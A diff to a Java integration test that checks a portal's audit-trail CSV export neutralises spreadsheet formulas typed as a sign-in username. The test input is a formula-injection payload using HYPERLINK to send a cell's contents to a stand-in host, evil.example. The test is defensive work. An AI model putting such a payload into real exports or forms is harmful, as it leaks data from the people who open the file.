@@ -7,6 +7,8 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.time.Instant;
+import java.util.ArrayList;
+import java.util.List;
 import java.util.Map;
 import java.util.UUID;
 import org.jboss.arquillian.container.test.api.Deployment;
@@ -15,6 +17,7 @@ import org.jboss.arquillian.junit5.ArquillianExtension;
 import org.jboss.shrinkwrap.api.spec.WebArchive;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
+import org.lowshire.portal.request.RequestApiClient;
 import org.lowshire.portal.support.Deployments;
 import org.lowshire.portal.support.Http;
 import org.lowshire.portal.support.Tokens;
@@ -111,6 +114,74 @@ class IgWorkspaceUiIT extends BrowserJourney {
         String own = browser.text(By.id("report:events"));
         assertTrue(own.contains("EXPORT") && own.contains("SEARCH"), "the export and the report are audited: " + own);
         browser.assertAccessible();
+    }
+
+    /**
+     * A name typed on Keycloak's sign-in page reaches the trail (the failed sign-in is imported) and so the CSV
+     * export: a spreadsheet would run it as a formula, so every cell that could start one is written as text.
+     */
+    @Test
+    void aFormulaTypedAsAUserNameOnTheSignInPageIsExportedAsText() throws Exception {
+        String formula = "=hyperlink(\"http://evil.example/?\"&a1,\"open\")-"
+                + UUID.randomUUID().toString().substring(0, 6);
+        browser.signIn(formula, "Not-the-password-1");
+        browser.waitFor(By.id("username"));
+        Instant deadline = Instant.now().plus(Duration.ofSeconds(40));
+        while (RequestApiClient.count("select count(*) from portal.audit_event where actor_username = ?", formula)
+                == 0) {
+            assertTrue(Instant.now().isBefore(deadline), "the failed sign-in was not imported");
+            Thread.sleep(500);
+        }
+
+        signInAs("ig.officer");
+        browser.open("/ig/");
+        browser.driver().findElement(By.id("search:username")).sendKeys(formula);
+        browser.driver().findElement(By.id("search:apply")).click();
+        browser.waitFor(By.id("audit-count"));
+        browser.driver().findElement(By.id("search:export-csv")).click();
+        List<List<String>> rows = csvCells(Files.readString(awaitDownload(".csv")));
+
+        assertTrue(rows.size() >= 2, "a header and the failed sign-in: " + rows);
+        assertTrue(rows.stream().skip(1).allMatch(row -> row.get(1).equals("'" + formula)), rows.toString());
+        for (List<String> row : rows) {
+            for (String cell : row) {
+                assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, "a formula cell: " + cell);
+            }
+        }
+    }
+
+    /** PrimeFaces' CSV: every cell in double quotes, a quote inside doubled, cells separated by commas. */
+    private static List<List<String>> csvCells(String csv) {
+        List<List<String>> rows = new ArrayList<>();
+        List<String> row = new ArrayList<>();
+        StringBuilder cell = new StringBuilder();
+        boolean quoted = false;
+        for (int i = 0; i < csv.length(); i++) {
+            char c = csv.charAt(i);
+            if (quoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
+                cell.append('"');
+                i++;
+            } else if (c == '"') {
+                quoted = !quoted;
+            } else if (!quoted && c == ',') {
+                row.add(cell.toString());
+                cell.setLength(0);
+            } else if (!quoted && (c == '\n' || c == '\r')) {
+                if (!row.isEmpty() || cell.length() > 0) {
+                    row.add(cell.toString());
+                    rows.add(row);
+                }
+                row = new ArrayList<>();
+                cell.setLength(0);
+            } else {
+                cell.append(c);
+            }
+        }
+        if (!row.isEmpty() || cell.length() > 0) {
+            row.add(cell.toString());
+            rows.add(row);
+        }
+        return rows;
     }
 
     @Test
